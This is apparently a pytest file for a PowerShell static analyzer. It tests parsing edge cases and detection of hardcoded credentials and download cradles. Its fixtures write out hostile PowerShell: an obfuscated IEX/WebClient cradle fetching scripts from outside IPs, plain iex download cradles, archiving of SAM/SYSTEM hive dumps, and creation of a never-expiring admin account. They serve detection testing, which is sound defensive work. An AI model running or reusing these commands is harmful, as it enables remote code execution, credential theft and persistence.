"""Focused cases for what the blind3e corpus (admin scripts, PowerShell 7, tradecraft) found: one test per
fixed miss or false finding, each with a near miss that must stay as it was."""

from __future__ import annotations

import pytest

from psscript_graphql.analyzer.commands import ArgKind
from psscript_graphql.analyzer.grammar_gaps import parser_input
from psscript_graphql.analyzer.parse import parse_script
from tests.unit.analyzer.corpus_cases import analyze, lines_of


@pytest.mark.parametrize("line", [
    "Compress-Archive -Path $out, C:\\Windows\\Temp\\sam.sav, C:\\Windows\\Temp\\sys.sav -DestinationPath C:\\x.zip",
    "    Select-Object -Property @{ n = 'Server'; e = { $_.Filename } }, LineNumber, Line",
    "$hits = $servers | Select-Object -Property (Get-Date), Name",
    "$r = Get-Item -Path $a, b.txt; Get-Item \"a\", C:\\b",
    "& $tool $source, Backup.zip -Force",
    "Get-ChildItem -Path $env:TEMP, C:\\Windows\\Temp -Filter *.tmp",
    "$servers | ForEach-Object { Get-Item $_, C:\\x }; if ($x) { Remove-Item (Join-Path $a b), b.txt }",
    "Write-Host \"a\", b",
])
def test_a_command_list_that_starts_with_an_expression_may_go_on_with_bare_words(line: str) -> None:
    result = analyze(line)
    assert lines_of(result, "PSParseError") == []
    assert len(parser_input(line.encode())) == len(line.encode())


def test_the_bare_words_of_such_a_list_are_constants_not_variables() -> None:
    tree = parse_script("Compress-Archive -Path $out, C:\\Temp\\sam.sav, sys.sav -DestinationPath C:\\x.zip\n")
    (call,) = tree.commands()
    value = call.value_of("Path")
    assert value is not None and value.kind is ArgKind.LIST
    assert [(item.kind, item.value) for item in value.items] == [
        (ArgKind.VARIABLE, "$out"), (ArgKind.STRING, "C:\\Temp\\sam.sav"), (ArgKind.STRING, "sys.sav")]
    assert [variable.name for variable in tree.variables()] == ["out"]


@pytest.mark.parametrize("line", [
    "$x = $a, bb",  # expression mode: a word after a comma is an error in PowerShell too
    "return $a, bb",
    "Get-Item -Path $a, ",  # a list that ends in a comma
    "if ($a, bb) { 1 }",
    "Get-Item $a | ForEach-Object { ($_), bb }",
    "Get-Item @{ a = $b, cc }",
])
def test_a_word_after_a_comma_in_expression_mode_is_still_a_parse_error(line: str) -> None:
    assert parser_input(line.encode()) == line.encode()
    assert lines_of(analyze(line), "PSParseError") == [1]


def test_a_parallel_block_after_such_a_list_still_reports_a_variable_without_using() -> None:
    result = analyze("""
        $logRoot = '\\\\fs01\\Logs'
        $hits = $servers | ForEach-Object -Parallel {
            Get-ChildItem -Path (Join-Path -Path $logRoot -ChildPath $_) |
                Select-String -Pattern $using:pattern |
                Select-Object -Property @{ n = 'Server'; e = { $_.Filename } }, LineNumber, Line
        } -ThrottleLimit 10
    """)
    assert lines_of(result, "PSParseError") == []
    assert lines_of(result, "PSUseUsingScopeModifierInNewRunspaces") == [3]


def test_a_native_tools_literal_password_is_reported_in_a_script_that_names_no_secret() -> None:
    result = analyze("""
        $u = 'helpdesk_adm'
        net user $u 'Rdp#Access2024' /add /expires:never
        schtasks /create /tn Sync /tr C:\\Tools\\sync.exe /ru CORP\\svc_sync /rp Sync!2024x
        net user $u * /add
        net localgroup Administrators $u /add
        schtasks /create /tn Sync /tr C:\\Tools\\sync.exe /ru SYSTEM
    """)
    assert lines_of(result, "PSAvoidHardcodedCredential") == [2, 3]


def test_a_cradle_string_run_by_invoke_expression_is_a_cradle_even_after_the_command_name() -> None:
    result = analyze("""
        $k = [string]::new([char[]](73, 69, 88, 32, 40, 78, 101, 119, 45, 79, 98, 106, 101, 99, 116, 32, 78, 101, 116, 46, 87, 101, 98, 67, 108, 105, 101, 110, 116, 41))
        $tail = '.DownloadString(''http://185.220.101.7/a.ps1'')'
        &($ShellId[1] + $ShellId[13] + 'x') ($k + $tail)
        iex 'IEX (New-Object Net.WebClient).DownloadString(''http://203.0.113.9/b.ps1'')'
        iex '(New-Object Net.WebClient).DownloadString(''http://203.0.113.9/version.txt'')'
    """)
    assert lines_of(result, "PSDownloadCradle") == [3, 4]
